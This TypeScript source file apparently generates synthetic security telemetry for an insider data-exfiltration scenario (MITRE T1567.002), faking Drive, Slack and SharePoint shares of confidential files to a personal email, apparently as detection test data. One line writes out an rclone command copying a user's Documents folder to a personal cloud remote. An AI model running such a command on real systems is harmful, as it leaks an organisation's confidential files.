import { personalEmailDomains } from '../catalog/outside-world';
import { windowsDevice } from '../org-devices';
import type { FileItem } from '../org-types';
import { driveLinkEvent, driveShareEvent, googleActivity } from '../sources/google-workspace';
import { sharePointSharingRecord } from '../sources/m365-records';
import { slackEntry, slackFile } from '../sources/slack';
import { images } from '../sources/windows-catalog';
import { explorerOf, sysmonProcess } from '../sources/windows-records';
import { Injection, ipAt, localTime, personalAddress, pickWeekday } from './injection';
import type { ScenarioContext, ScenarioDefinition, ScenarioPlan } from './types';

function plan(ctx: ScenarioContext): ScenarioPlan {
  const { prng, subject: e, org } = ctx;
  const { company } = org;
  const inj = new Injection(ctx.index);
  const first = pickWeekday(ctx, 0.5, 0.8);
  const days = prng.int(3, 7);
  const when = (): { t: number; ip: string } => {
    const hour = prng.range(12, 23);
    return {
      t: localTime(e, Math.min(ctx.lastDay, first + prng.int(0, days - 1)), hour),
      ip: ipAt(e, hour),
    };
  };
  const labelled = (store: (f: FileItem) => boolean): FileItem[] =>
    e.files.filter((f) => f.label !== null && f.label !== 'Public' && store(f));
  const personal = personalAddress(
    e,
    personalEmailDomains.filter((d) => d !== 'proton.me'),
    prng,
  );

  const driveFiles = prng.sample(
    labelled((f) => f.store === 'drive'),
    prng.int(3, 6),
  );
  driveFiles.forEach((f, i) => {
    const { t, ip } = when();
    const event = i % 2 === 0 ? driveLinkEvent(f) : driveShareEvent(f, personal, true);
    inj.add('google-workspace', t, googleActivity(company, e, t, 'drive', ip, [event], prng));
  });

  const slackFiles = prng.sample(
    labelled(() => true),
    prng.int(2, 5),
  );
  for (const f of slackFiles) {
    const { t, ip } = when();
    inj.add(
      'slack',
      t,
      slackEntry(
        company,
        e,
        'file_public_link_created',
        t,
        ip,
        { type: 'file', file: slackFile(f) },
        prng,
      ),
    );
  }

  const spFiles = prng.sample(
    labelled((f) => f.store !== 'drive'),
    prng.int(3, 7),
  );
  spFiles.forEach((f, i) => {
    const { t, ip } = when();
    const record =
      i % 3 === 2
        ? sharePointSharingRecord(company, e, f, 'SharingInvitationCreated', t, ip, prng, personal)
        : sharePointSharingRecord(company, e, f, 'AnonymousLinkCreated', t, ip, prng, null);
    inj.add('m365', t, record);
  });

  const device = windowsDevice(e.devices);
  let syncs = 0;
  if (device) {
    syncs = prng.int(1, 2);
    for (let i = 0; i < syncs; i++) {
      const { t } = when();
      const cmd = `"${images.rclone.image}" copy "C:\\Users\\${e.localPart}\\Documents" personal-gdrive:backup --transfers 8`;
      inj.add(
        'windows',
        t,
        sysmonProcess(device, e, t, images.rclone, cmd, explorerOf(device), prng).record,
      );
    }
  }

  return inj.finish(ctx, 'cloud-upload', {
    techniques: ['T1567.002'],
    summary: `Published ${driveFiles.length + slackFiles.length + spFiles.length} labelled files through public links and shares to ${personal}${syncs > 0 ? ', and synced Documents to a personal cloud drive with rclone' : ''}.`,
    details: {
      personalAccount: personal,
      publicLinks: driveFiles.length + slackFiles.length + spFiles.length,
      rcloneRuns: syncs,
    },
  });
}

/** Labelled files pushed to personal cloud storage through public links and external shares. */
export const cloudUpload: ScenarioDefinition = {
  id: 'cloud-upload',
  description:
    'Publishes labelled files through anonymous links and shares them with a personal account.',
  eligible: (e) =>
    e.files.some((f) => f.label === 'Confidential' || f.label === 'Highly Confidential'),
  plan,
};
